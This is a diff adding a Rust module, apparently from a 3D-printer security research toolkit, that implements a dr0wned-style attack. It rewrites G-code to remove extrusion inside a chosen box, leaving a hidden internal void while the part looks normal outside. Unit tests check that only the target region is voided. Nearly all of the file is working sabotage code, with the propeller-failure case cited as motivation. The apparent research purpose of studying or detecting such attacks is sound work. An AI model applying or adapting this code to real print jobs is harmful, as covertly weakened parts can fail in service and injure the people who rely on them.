@@ -1,0 +1,157 @@
+//! dr0wned-style void insertion.
+//!
+//! The dr0wned attack \[11\] "finds design files in the system, identifies
+//! spots that are vulnerable to stress, and inserts sub-millimeter holes
+//! in them" — compromising a propeller that later failed mid-flight.
+//! Operating on G-code rather than STL, the equivalent is removing the
+//! extrusion from every print move that passes through a target region:
+//! the toolpath still travels there (the part *looks* the same from
+//! outside) but no material is deposited — an internal void.
+
+use serde::{Deserialize, Serialize};
+
+use offramps_gcode::{GCommand, Program};
+
+use crate::exec_state::ExecState;
+
+/// An axis-aligned box inside the part where material is removed.
+#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
+pub struct VoidRegion {
+    /// Box minimum corner (x, y, z), mm.
+    pub min: (f64, f64, f64),
+    /// Box maximum corner (x, y, z), mm.
+    pub max: (f64, f64, f64),
+}
+
+impl VoidRegion {
+    /// Creates a region.
+    ///
+    /// # Panics
+    ///
+    /// Panics if any max coordinate is below its min.
+    pub fn new(min: (f64, f64, f64), max: (f64, f64, f64)) -> Self {
+        assert!(
+            min.0 <= max.0 && min.1 <= max.1 && min.2 <= max.2,
+            "region min must not exceed max"
+        );
+        VoidRegion { min, max }
+    }
+
+    fn contains(&self, x: f64, y: f64, z: f64) -> bool {
+        (self.min.0..=self.max.0).contains(&x)
+            && (self.min.1..=self.max.1).contains(&y)
+            && (self.min.2..=self.max.2).contains(&z)
+    }
+}
+
+/// Strips extrusion from every print move whose midpoint lies inside
+/// `region`, creating an internal void. Returns the compromised program
+/// and the number of moves voided.
+pub fn insert_void(program: &Program, region: &VoidRegion) -> (Program, usize) {
+    let mut state = ExecState::default();
+    let mut out_e = 0.0;
+    let mut voided = 0;
+    let mut out = Program::new();
+    for cmd in program.commands() {
+        match cmd {
+            GCommand::Move { rapid, x, y, z, e, feedrate } => {
+                let delta = state.move_e_delta(*e);
+                let (ox, oy, oz) = (state.x, state.y, state.z);
+                state.apply_move(*x, *y, *z, *e);
+                let mid = ((ox + state.x) / 2.0, (oy + state.y) / 2.0, (oz + state.z) / 2.0);
+                let in_region = region.contains(mid.0, mid.1, mid.2);
+                let is_print_move = delta > 0.0 && (x.is_some() || y.is_some());
+                let new_delta = if is_print_move && in_region {
+                    voided += 1;
+                    0.0
+                } else {
+                    delta
+                };
+                let new_e = e.map(|_| {
+                    if state.e_absolute {
+                        out_e + new_delta
+                    } else {
+                        new_delta
+                    }
+                });
+                if e.is_some() {
+                    out_e += new_delta;
+                }
+                out.push(GCommand::Move {
+                    rapid: *rapid,
+                    x: *x,
+                    y: *y,
+                    z: *z,
+                    e: new_e,
+                    feedrate: *feedrate,
+                });
+            }
+            GCommand::SetPosition { e, .. } => {
+                state.apply_non_move(cmd);
+                if let Some(v) = e {
+                    out_e = *v;
+                }
+                out.push(cmd.clone());
+            }
+            other => {
+                state.apply_non_move(other);
+                out.push(other.clone());
+            }
+        }
+    }
+    (out, voided)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use offramps_gcode::{parse, ProgramStats};
+
+    fn two_layer_lines() -> Program {
+        parse(
+            "G90\nM83\nG1 Z0.2 F600\nG1 X20 E1 F1200\n\
+             G1 Z0.4\nG0 X0\nG1 X20 E1\n",
+        )
+        .unwrap()
+    }
+
+    #[test]
+    fn voids_only_the_targeted_region() {
+        let p = two_layer_lines();
+        // Void covers the first layer only.
+        let region = VoidRegion::new((0.0, -1.0, 0.0), (25.0, 1.0, 0.3));
+        let (attacked, voided) = insert_void(&p, &region);
+        assert_eq!(voided, 1);
+        let s0 = ProgramStats::analyze(&p);
+        let s1 = ProgramStats::analyze(&attacked);
+        assert!((s0.total_extruded_mm - 2.0).abs() < 1e-9);
+        assert!((s1.total_extruded_mm - 1.0).abs() < 1e-9);
+    }
+
+    #[test]
+    fn empty_region_is_identity() {
+        let p = two_layer_lines();
+        let region = VoidRegion::new((100.0, 100.0, 100.0), (101.0, 101.0, 101.0));
+        let (attacked, voided) = insert_void(&p, &region);
+        assert_eq!(voided, 0);
+        assert_eq!(
+            ProgramStats::analyze(&p).total_extruded_mm,
+            ProgramStats::analyze(&attacked).total_extruded_mm
+        );
+    }
+
+    #[test]
+    fn travel_moves_unaffected() {
+        let p = two_layer_lines();
+        let region = VoidRegion::new((-10.0, -10.0, 0.0), (30.0, 10.0, 10.0));
+        let (attacked, _) = insert_void(&p, &region);
+        // Same number of commands; geometry words unchanged.
+        assert_eq!(p.len(), attacked.len());
+    }
+
+    #[test]
+    #[should_panic(expected = "min must not exceed")]
+    fn rejects_inverted_region() {
+        let _ = VoidRegion::new((1.0, 0.0, 0.0), (0.0, 1.0, 1.0));
+    }
+}
